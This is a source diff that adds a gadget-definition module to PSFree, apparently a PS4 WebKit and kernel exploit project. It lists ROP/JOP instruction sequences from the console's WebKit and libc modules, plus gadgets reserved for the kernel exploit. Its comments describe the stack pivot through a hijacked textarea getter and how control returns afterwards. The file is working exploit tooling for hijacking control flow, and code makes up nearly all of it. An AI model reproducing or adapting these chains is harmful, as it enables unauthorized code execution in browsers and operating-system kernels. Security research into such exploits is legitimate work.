@@ -0,0 +1,196 @@
+/* Copyright (C) 2023 anonymous
+
+This file is part of PSFree.
+
+PSFree is free software: you can redistribute it and/or modify
+it under the terms of the GNU Affero General Public License as
+published by the Free Software Foundation, either version 3 of the
+License, or (at your option) any later version.
+
+PSFree is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU Affero General Public License for more details.
+
+You should have received a copy of the GNU Affero General Public License
+along with this program.  If not, see <https://www.gnu.org/licenses/>.  */
+
+// The gadgets used by the ROP/JOP chains of rop.mjs
+//
+// The lists below are shared by rop.mjs, which finds the gadgets at runtime,
+// and tools/gen_gadgets.mjs, which finds them in a dump of a module and
+// generates the offset tables for new firmwares.
+
+import { argument_pops } from './chain.mjs';
+
+export const kjop1 = `
+mov rdi, qword ptr [rdi]
+mov rax, qword ptr [rdi]
+jmp qword ptr [rax + 0xe0]
+`;
+export const k2jop1 = `
+mov rdi, qword ptr [rsi + 8]
+mov rax, qword ptr [rdi]
+jmp qword ptr [rax + 0x70]
+`;
+// gadgets for the JOP chain
+//
+// Why these JOP chain gadgets are not named jop1-3 and jop2-5 not jop4-7 is
+// because jop1-5 was the original chain used by the old implementation of
+// Chain803. Now the sequence is ta_jop1-3 then to jop2-5.
+//
+// Only the gadgets that are the same on every firmware are here. The others
+// (ta_jop2, ta_jop3, jop2 and jop4) jump through different offsets on each
+// firmware and are in the firmware profiles, see module/profiles.mjs. The
+// examples below are the ones of PS4 8.03.
+//
+// When the scrollLeft getter native function is called on PS4 8.03, rsi is the
+// JS wrapper for the WebCore textarea class.
+export const ta_jop1 = `
+mov rdi, qword ptr [rsi + 0x18]
+mov rax, qword ptr [rdi]
+call qword ptr [rax + 0xb8]
+`;
+// Since the method of code redirection we used is via redirecting a call to
+// jump to our JOP chain, we have the return address of the caller on entry.
+//
+// ta_jop1 pushed another object (via the call instruction) but we want no
+// extra objects between the return address and the rbp that will be pushed by
+// jop2 later. So we pop the return address pushed by ta_jop1.
+//
+// This will make pivoting back easy, just "leave; ret".
+//
+// ta_jop2:
+//     pop rsi
+//     jmp qword ptr [rax + 0x5f]
+//
+// ta_jop3:
+//     mov rdi, qword ptr [rax + 8]
+//     mov rax, qword ptr [rdi]
+//     jmp qword ptr [rax + 0x68]
+
+// jop1 was previously used by the old implementation of Chain803, now unused
+export const jop1 = `
+mov rdi, qword ptr [rdi + 0x30]
+mov rax, qword ptr [rdi]
+jmp qword ptr [rax + 8]
+`;
+// rbp is now pushed, any extra objects pushed by the call instructions can be
+// ignored
+//
+// jop2:
+//     push rbp
+//     mov rbp, rsp
+//     mov rax, qword ptr [rdi]
+//     call qword ptr [rax + 0x30]
+export const jop3 = `
+mov rdx, qword ptr [rax + 0x18]
+mov rax, qword ptr [rdi]
+call qword ptr [rax + 0x10]
+`;
+// jop4:
+//     push rdx
+//     jmp qword ptr [rax]
+export const jop5 = 'pop rsp; ret';
+
+// the ps4 firmware is compiled to use rbp as a frame pointer
+//
+// The JOP chain pushed rbp and moved rsp to rbp before the pivot. The chain
+// must save rbp (rsp before the pivot) somewhere if it uses it. The chain must
+// restore rbp (if needed) before the epilogue.
+//
+// The epilogue will move rbp to rsp (restore old rsp) and pop rbp (which we
+// pushed earlier before the pivot, thus restoring the old rbp).
+//
+// leave instruction equivalent:
+//     mov rsp, rbp
+//     pop rbp
+export const rop_epilogue = 'leave; ret';
+
+// gadgets of libSceNKWebKit.sprx
+//
+// The JOP gadgets of the firmware profile are searched for as well, see
+// get_gadget_lists() of module/profiles.mjs.
+export const webkit_gadgets = [
+    'pop rax; ret',
+    'pop rbx; ret',
+    'pop rcx; ret',
+    'pop rdx; ret',
+
+    'pop rbp; ret',
+    'pop rsi; ret',
+    'pop rdi; ret',
+    'pop rsp; ret',
+
+    'pop r8; ret',
+    'pop r9; ret',
+    'pop r10; ret',
+    'pop r11; ret',
+
+    'pop r12; ret',
+    'pop r13; ret',
+    'pop r14; ret',
+    'pop r15; ret',
+
+    'ret',
+    rop_epilogue,
+
+    'neg rax; and rax, rcx; ret',
+    'adc esi, esi; ret',
+    'add rax, rdx; ret',
+    'push rsp; jmp qword ptr [rax]',
+    'add rcx, rsi; and rdx, rcx; or rax, rdx; ret',
+
+    'mov qword ptr [rdi], rsi; ret',
+    'mov rax, qword ptr [rax]; ret',
+    'mov qword ptr [rdi], rax; ret',
+    'mov dword ptr [rdi], eax; ret',
+    'mov rdx, rcx; ret',
+];
+
+// gadgets of libSceNKWebKit.sprx only used by the kernel exploit, they are
+// not searched for on firmwares whose profile has no kernel offsets
+export const kernel_gadgets = [
+    'leave; jmp rcx',
+    'add rax, 8; ret',
+    'mov qword ptr [rdx], rax; mov al, 1; ret',
+    'mov rdx, qword ptr [rcx]; ret',
+
+    'cli; jmp qword ptr [rax + 0x43]',
+    'sti; ret',
+    'xchg rbp, rax; ret',
+
+    kjop1,
+    k2jop1,
+];
+
+// gadgets of libSceLibcInternal.sprx
+export const libc_gadgets = [
+    'neg rax; ret',
+    'mov rdx, rax; xor eax, eax; shl rdx, cl; ret',
+    'mov qword ptr [rsi], rcx; ret',
+];
+
+// functions of libSceLibcInternal.sprx that are in the gadget map, they are
+// resolved with dlsym() of dynlib.mjs
+export const libc_functions = [
+    'setjmp',
+    'longjmp',
+];
+
+// Gadgets that skip the stack arguments when calling a function with more
+// than 6 arguments, see ChainBase.push_call(). They are optional and searched
+// for in libSceLibcInternal.sprx.
+export const stack_arg_gadgets = [
+    'add rsp, 8; ret',
+    'add rsp, 0x10; ret',
+    'add rsp, 0x18; ret',
+    'add rsp, 0x20; ret',
+    'add rsp, 0x28; ret',
+    'add rsp, 0x38; ret',
+    'add rsp, 0x48; ret',
+    'add rsp, 0x58; ret',
+];
+
+// the chains can't be created without these, see ChainBase.init_class()
+export const required_gadgets = argument_pops;